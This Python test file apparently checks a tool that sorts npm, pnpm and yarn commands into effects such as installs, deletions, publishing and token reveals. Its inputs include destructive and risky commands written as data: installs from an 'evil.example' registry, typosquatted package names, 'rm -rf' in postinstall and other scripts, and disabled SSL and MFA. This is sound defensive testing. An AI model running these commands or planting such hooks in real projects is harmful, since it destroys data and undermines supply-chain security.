"""npm, pnpm, yarn: installs, scripts, publishing."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from support.briefly import lines, lines_in
from support.reading import effects


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("npm install", ["InstallPackage manager=npm origin=lockfile"]),
        ("npm ci", ["InstallPackage manager=npm origin=lockfile"]),
        ("npm config set //registry.npmjs.org/:_authToken x", ["WritePath target=/home/u/.npmrc how=edit"]),
        (
            "yarn node -e \"require('fs').rmSync('src', {recursive: true})\"",
            ["DeletePath target=/home/u/proj/src recursive"],
        ),
        ("npm i vitest -D", ["InstallPackage manager=npm names=[vitest]"]),
        ("npm install react@18 @types/node", ["InstallPackage manager=npm names=[react,@types/node]"]),
        ("npm add x --registry=https://registry.npmjs.org/", ["InstallPackage manager=npm names=[x]"]),
        ("npm install --registry https://evil.example x", ["InstallPackage manager=npm names=[x] origin=index"]),
        ("npm_config_registry=https://evil.example npm i x", ["InstallPackage manager=npm names=[x] origin=index"]),
        ("npm install -g typescript", ["InstallPackage manager=npm names=[typescript] scope=system"]),
        ("npm install --location=global x", ["InstallPackage manager=npm names=[x] scope=system"]),
        ("sudo npm install x", ["InstallPackage user=root manager=npm names=[x] scope=system"]),
        ("npm install user/repo", ["InstallPackage manager=npm names=[user/repo] origin=git"]),
        ("npm i git+ssh://git@x.y/z.git", ["InstallPackage manager=npm names=[git+ssh://git@x.y/z.git] origin=git"]),
        ("npm i github:a/b", ["InstallPackage manager=npm names=[github:a/b] origin=git"]),
        ("npm i x@github:a/b", ["InstallPackage manager=npm names=[x@github:a/b] origin=git"]),
        ("npm i https://x.y/z.tgz", ["InstallPackage manager=npm names=[https://x.y/z.tgz] origin=url"]),
        ("npm i ./local", ["InstallPackage manager=npm names=[./local] origin=path"]),
        ("npm i 'x@npm:lodahs@1'", ["InstallPackage manager=npm names=[lodahs] lookalike=lodash"]),
        (
            "npm install react chalk-improved",
            ["InstallPackage manager=npm names=[react]", "InstallPackage manager=npm names=[chalk-improved] lookalike=chalk"],
        ),
        ('npm install "$P"', ["InstallPackage manager=npm names=[<$P is not known>] origin=unknown"]),
        ("npm i --no-strict-ssl x", ["InstallPackage manager=npm names=[x] unchecked"]),
        ("npm install --dry-run x", []),
        ("npm update", ["InstallPackage manager=npm origin=lockfile"]),
        ("npm uninstall left-pad", ["RemovePackage manager=npm names=[left-pad]"]),
        ("npm rm -g x", ["RemovePackage manager=npm names=[x] scope=system"]),
        ("npm publish", ["PublishPackage manager=npm verb=publish"]),
        ("npm publish --dry-run", []),
        ("npm unpublish x --force", ["PublishPackage manager=npm verb=unpublish what=x"]),
        ("npm deprecate x@1 'old'", ["PublishPackage manager=npm verb=deprecate what=x@1"]),
        ("npm owner add bob x", ["PublishPackage manager=npm verb=owner what=owner add bob x"]),
        ("npm owner ls x", []),
        ("npm dist-tag add x@1 latest", ["PublishPackage manager=npm verb=publish what=tag add x@1 latest"]),
        ("npm access set mfa=none x", ["PublishPackage manager=npm verb=owner what=access set mfa=none x"]),
        ("npm token create", ["RevealSecret what=a new registry token by=npm token create"]),
        ("npm token list", []),
        ("npm config set registry https://e.x", ["SetEnvironment name=npm registry value=https://e.x"]),
        ("npm config set registry https://registry.npmjs.org/", []),
        ("npm config set strict-ssl false", ["SetEnvironment name=npm strict-ssl value=false"]),
        ("npm config get registry", []),
        ("npm config get //r/:_authToken", ["RevealSecret what=the setting //r/:_authToken by=npm config get"]),
        ("npm create vite@latest app", ["InstallPackage manager=npm create names=[create-vite] runs"]),
        ("npm audit fix", ["InstallPackage manager=npm origin=lockfile"]),
        ("npm explore x -- rm -rf build", ["DeletePath target=/home/u/proj/build recursive"]),
        ("npm run build", ["RunCode language=shell origin=workspace what=npm run build"]),
        ("npm test -- --coverage", ["RunCode language=shell origin=workspace what=npm run test"]),
        ("npm --prefix web run build", ["RunCode language=shell origin=workspace what=npm run build"]),
        ("pnpm install --frozen-lockfile", ["InstallPackage manager=pnpm origin=lockfile"]),
        ("pnpm add -D left-pad", ["InstallPackage manager=pnpm names=[left-pad]"]),
        ("pnpm add -g x", ["InstallPackage manager=pnpm names=[x] scope=system"]),
        ("pnpm --filter web build", ["RunCode language=shell origin=workspace what=pnpm run build"]),
        ("pnpm -r publish", ["PublishPackage manager=pnpm verb=publish"]),
        ("pnpm dlx create-foo", ["InstallPackage manager=pnpm dlx names=[create-foo] runs"]),
        ("yarn", ["InstallPackage manager=yarn origin=lockfile"]),
        ("yarn add lodahs", ["InstallPackage manager=yarn names=[lodahs] lookalike=lodash"]),
        ("yarn global add x", ["InstallPackage manager=yarn names=[x] scope=system"]),
        ("yarn npm publish", ["PublishPackage manager=yarn verb=publish"]),
        ("yarn build", ["RunCode language=shell origin=workspace what=yarn run build"]),
        ("yarn workspace web add x", ["InstallPackage manager=yarn names=[x]"]),
    ],
)  # fmt: skip
def test_effects(command: str, expected: list[str]) -> None:
    """Names, sources, scopes, look-alikes and publishing in the spellings of each manager."""
    assert expected == lines(command)


@pytest.mark.parametrize(
    "command",
    ["npm outdated", "npm pack --dry-run", "npm ls", "npm view react", "npm --version", "npm audit", "npm help", "npm login",
     "npm whoami", "npm cache clean --force", "npm fund", "npm dedupe", "pnpm why x", "yarn why x", "npm link", "npm explain x",
     "npm version patch", "npm prune"],
)  # fmt: skip
def test_quiet(command: str) -> None:
    """Looking and tidying have no effect."""
    assert [] == lines(command)


def project(tmp_path: Path, scripts: dict[str, str]) -> Path:
    top = tmp_path / "proj"
    (top / "web").mkdir(parents=True)
    (top / "package.json").write_text(json.dumps({"name": "demo", "scripts": scripts}))
    return top


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("npm run wipe", ["DeletePath target=.", "recursive"]),
        ("npm run-script wipe", ["DeletePath target=.", "recursive"]),
        ("yarn wipe", ["DeletePath target=.", "recursive"]),
        ("pnpm run wipe", ["DeletePath target=.", "recursive"]),
        ("cd web && npm run wipe", ["recursive"]),
        ("npm --prefix . run nested", ["DeletePath target=.", "recursive"]),
        ("npm run del -- ..", ["DeletePath target="]),
        ("npm test", ["git push", "GitPush"]),
        ("npm install", ["InstallPackage", "DeletePath"]),
        ("npm publish", ["PublishPackage manager=npm verb=publish what=demo"]),
    ],
)
def test_scripts_are_read(tmp_path: Path, command: str, expected: list[str]) -> None:
    """What a script does counts, with its pre script and the words handed on."""
    top = project(
        tmp_path,
        {
            "wipe": "rm -rf .", "nested": "npm run wipe", "del": "rm", "pretest": "git push -f", "test": "true",
            "postinstall": "rm -rf ../other", "build": "true",
        },
    )  # fmt: skip
    found = lines_in(str(top), str(tmp_path), command)
    assert any(expected[-1] in line for line in found), found


def test_scripts_that_are_not_there(tmp_path: Path) -> None:
    """A missing script does nothing; install scripts are left out on request; odd manifests do not raise."""
    top = project(tmp_path, {"postinstall": "rm -rf ../other"})
    assert [] == lines_in(str(top), str(tmp_path), "npm run nothing")
    assert ["InstallPackage manager=npm origin=lockfile"] == lines_in(
        str(top), str(tmp_path), "npm ci --ignore-scripts"
    )
    for text in ("[", "[]", '{"scripts": 3}', '{"scripts": {"build": 3}}', "[" * 2000):
        (top / "package.json").write_text(text)
        assert [] == lines_in(str(top), str(tmp_path), "npm run build")


def test_total() -> None:
    """Unknown words never raise."""
    for tool in ("npm", "pnpm", "yarn", "bun", "npx"):
        for words in (
            '"$A"',
            'install "$A"',
            'run "$A" "$B"',
            'exec "$A"',
            '--prefix "$A" run x',
            'config set "$A" "$B"',
        ):
            lines(f"{tool} {words}")


def test_npm_takes_abbreviations() -> None:
    """Any beginning that only one command has is that command."""
    assert any(type(e).__name__ == "PublishPackage" for e in effects("npm pub"))
    assert any(type(e).__name__ == "PublishPackage" for e in effects("npm unpub x@1"))
    assert [] == effects("npm outd")
